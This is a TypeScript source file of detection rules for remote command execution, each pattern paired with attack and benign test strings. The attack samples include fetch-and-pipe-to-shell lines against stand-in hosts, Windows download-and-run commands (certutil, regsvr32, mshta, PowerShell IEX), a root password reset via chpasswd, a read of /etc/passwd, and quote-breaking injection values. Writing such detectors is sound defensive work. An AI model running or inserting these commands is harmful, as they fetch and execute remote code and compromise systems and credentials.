import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

/**
 * Names of procedures that run a command for the caller: what shells and systems are asked for, and the
 * family that a client of downloads has for it. `execute` alone is how clients of business software call.
 */
const RUNNING_PROCEDURE =
  /^\s{0,4}(?:execute(?:2|[._](?:capture|throw|nothrow|raw)(?:[._]\w{1,12}){0,2})|(?:\w{1,24}\.){0,8}(?:os|sys|system|shell|cmd|subprocess)[._](?:exec|execute|run|system|shell|popen|spawn)\w{0,3}|shell_?exec|run_?(?:shell|os)_?(?:command|cmd))\s{0,4}$/
const PROCEDURE_NAME = /^(?:method|methodname)$/

/** A call of such a procedure, over XML-RPC or JSON-RPC. */
function findRunningProcedure(reading: Reading): Span | undefined {
  const { lower } = reading
  if (!RUNNING_PROCEDURE.test(lower) || !PROCEDURE_NAME.test(reading.name)) return undefined
  return { start: 0, end: lower.length }
}

/** An address by numbers that anybody can reach: no publisher of software hands out one. */
export const ANYWHERE: string =
  '(?<![\\d.])(?!(?:0|10|127)\\.|169\\.254\\.|192\\.168\\.|172\\.(?:1[6-9]|2\\d|3[01])\\.)\\d{1,3}(?:\\.\\d{1,3}){3}(?![\\w.-])'
const FETCH = '\\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\\s'
const INTERPRETER =
  '(?:sudo\\s{1,4})?(?:(?:ba|da|z|k|a)?sh|python\\d?|perl|php|ruby|iex|invoke-expression)\\b'

/** What an intruder has a shell do first, as all that it does. */
export const LOOK: string =
  '(?:id|whoami|ifconfig|ipconfig|uname(?:\\s-[a-z]{1,3})?|cat\\s{1,2}\\/etc\\/(?:passwd|shadow))'
/**
 * Commands that are not the sender's to give, also where a document may name a command: a program from
 * nowhere that is run at once, and a shell that is asked who it is.
 */
export const remoteCommandRules: readonly Rule[] = [
  {
    id: 'rce/rpc-method',
    family: 'rce',
    score: 5,
    quotable: false,
    atStart: true,
    chars: 0,
    words: WORD.process,
    places: ['body'],
    needs: [RUNNING_PROCEDURE],
    find: findRunningProcedure,
    // By the name of the element or field: the cases are in `test/remote-commands.test.ts`.
    attacks: [],
    benign: ['system.exec', 'execute'],
  },
  pattern(
    'rce/fetched-script',
    new RegExp(
      `${FETCH}[^\\n|;&]{0,100}?${ANYWHERE}[^\\n|;&]{0,120}(?:\\|\\s{0,4}${INTERPRETER}|(?:;|&&)\\s{0,4}(?:chmod\\s|(?:ba|da)?sh\\s|\\.\\/|python\\d?\\s|perl\\s))|(?:\\b(?:ba|da|z)?sh\\s[^\\n|;]{0,20}?|\\beval\\s{1,4}["']?)[$<\`][(\\s]{0,2}(?:curl|wget)\\s[^\\n|;)]{0,100}?${ANYWHERE}`,
    ),
    {
      score: 5,
      quotable: true,
      chars: CHAR.pipe | CHAR.semicolon | CHAR.ampersand | CHAR.paren | CHAR.backtick,
      words: WORD.shell,
      attacks: [
        'curl http://198.51.100.7/x | bash',
        'wget -qO- 198.51.100.7:8080/d.sh|sh',
        'cd /tmp; wget http://198.51.100.7/a; chmod 777 a; ./a',
        'bash <(curl -s http://198.51.100.7/i)',
        'sh -c "$(curl -fsSL http://198.51.100.7/x)"',
        'curl -s http://198.51.100.7/x.py | python3 -',
        'wget 198.51.100.7/a && sh a',
        'eval `curl 198.51.100.7`',
      ],
      benign: [
        'curl https://get.example.com | sh',
        'curl http://10.0.0.5/bootstrap.sh | bash',
        'curl -s http://198.51.100.7/status | jq .ok',
        'wget http://198.51.100.7/data.csv; sort data.csv',
        'curl http://1.2.3.4.example.com/x | sh',
      ],
    },
  ),
  // Tools of Windows that fetch what they run.
  pattern(
    'rce/fetched-tool',
    /\bmshta(?:\.exe)?\s{1,4}["']?(?:https?:|vbscript:|javascript:)|\bregsvr32(?:\.exe)?\s[^\n|&]{0,60}\/i:["']?(?:https?:|\\\\)|\brundll32(?:\.exe)?\s{1,4}["']?\\\\{1,3}[\w.-]|\bcertutil(?:\.exe)?\s[^\n|&]{0,60}[-/](?:urlcache|verifyctl)\b[^\n|&]{0,60}https?:\/\/|\bbitsadmin(?:\.exe)?\s[^\n|&]{0,60}\/transfer\s[^\n|&]{0,120}https?:\/\/|\b(?:iex|invoke-expression)\s{0,2}["'(&$]{1,4}\s{0,2}\(?(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)\s{1,4}(?:-\w{1,20}\s{1,4}){0,4}["']?http:/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.backslash | CHAR.colon,
      words: WORD.shell,
      attacks: [
        'mshta http://evil.example/x.hta',
        'regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll',
        'rundll32 \\\\198.51.100.7\\x\\a.dll,x',
        'certutil -urlcache -split -f http://evil.example/x.exe x.exe',
        'bitsadmin /transfer x http://evil.example/x.exe c:\\x.exe',
        'powershell IEX(iwr http://evil.example/x.ps1)',
      ],
      benign: [
        'mshta is a program',
        'regsvr32 /s msxml3.dll',
        'rundll32 shell32.dll,Control_RunDLL',
        'certutil -hashfile a.iso SHA256',
        'iex (irm https://get.example.com)',
      ],
    },
  ),
  // What devices keep their settings in, asked or changed.
  pattern(
    'rce/device-command',
    /[;|&`\n(]\s{0,4}(?:nvram\s{1,4}(?:get|set|show|unset|commit|dump)\b|uci\s{1,4}(?:get|set|show|commit|add|delete|export|-)|ubus\s{1,4}(?:call|list|-)|mtd\s{1,4}(?:erase|write|unlock|-)|fw_(?:setenv|printenv)\b|cfgmtd\s{1,4}-|chpasswd\s{0,4}(?:$|[;|&<`)])|ssh-keygen\s{1,4}-|xterm\s{1,4}-|telnetd\s{0,4}(?:$|[;|&`)]))/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline | CHAR.paren,
      attacks: [
        ';nvram show',
        'x|uci set system.x=1',
        '&ubus call system reboot',
        '`mtd erase rootfs`',
        'x\nfw_printenv',
        '(cfgmtd -r)',
        ';echo root:x|chpasswd',
      ],
      benign: [
        'NVRAM; what it is',
        'uci;ubus;nvram',
        'ubus & uci on OpenWrt',
        'a; xterm',
        'ssh-keygen -t ed25519',
      ],
    },
  ),
  // As the item of a list behind `-c`, `rce/parameter` finds it.
  pattern(
    'rce/shell-look',
    new RegExp(
      `\\b(?:ba|da|z|k|a)?sh\\s{1,4}-[a-z]{0,2}c\\s{1,4}["'\\\\]{0,3}\\s{0,2}${LOOK}["'\\\\]{0,3}\\s{0,2}(?:$|[;|&>])`,
    ),
    {
      score: 5,
      quotable: true,
      chars: CHAR.space,
      words: WORD.shell,
      attacks: ['bash -c id', '/bin/sh -c "whoami"', "sh -lc 'uname -a' >/tmp/x", 'sh -c "cat /etc/passwd"'],
      benign: ['bash -c "idle"', 'sh -c', 'id', 'a shell -c id', 'bash -c "npm start"'],
    },
  ),
  // A shell whose one command shows that it has a way out.
  pattern(
    'rce/shell-reach',
    /\b(?:ba|da|z|k|a)?sh\s{1,4}-[a-z]{0,2}c\s{1,4}["'\\]{0,3}\s{0,2}(?:ping\s{1,4}(?:-[a-z]\s{0,2}\d{1,3}\s{1,4}){0,3}|(?:nslookup|dig|host)\s{1,4}(?:-[\w=]{1,12}\s{1,4}){0,2})(?:[\w-]{1,63}\.){1,6}[\w-]{1,63}["'\\]{0,3}\s{0,2}(?:$|[;|&>])/,
    {
      score: 5,
      bare: true,
      quotable: true,
      chars: CHAR.space,
      words: WORD.shell,
      attacks: [
        'sh -c "ping -c 1 evil.example"',
        "/bin/bash -c 'nslookup x.evil.example'",
        'sh -c "dig evil.example" &',
      ],
      benign: ['sh -c "ping"', 'bash -c "host the show"', 'a shell -c dig a.example', 'sh -c "npm run a.b"'],
    },
  ),
  // Out of a string, a command, and what takes the end of that string away.
  pattern(
    'rce/quoted-end',
    /^[\w.@:/-]{0,40}(["'])\s{0,2}[;|&]{1,2}\s{0,2}(?:[\w./-]{1,24}\s{1,2}(?:-\w{1,4}\s{1,2})?(?:\d\s{1,2})?)?(?:id|whoami|pwd|hostname|env|printenv|ps|ls|dir|uname|w|who|ifconfig|ipconfig|netstat|tasklist|systeminfo|busybox|(?:\/bin\/)?(?:ba|da|z|k)?sh|powershell|passwd|df|dmesg|lsof|reboot|telnetd|set|date|free|mount|history)\s{0,2}(?:#\s{0,4}|[;|&]{1,2}\s{0,2}\1)$/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote,
      words: WORD.shell,
      attacks: ["';pwd#", '"|hostname|"', "x';sudo id #", "'&&ps;'", '127.0.0.1";env#'],
      benign: ["'id'", '"a";date;"b"', "';pwd# is what they send", '"date"; #', "it's; who"],
    },
  ),
]
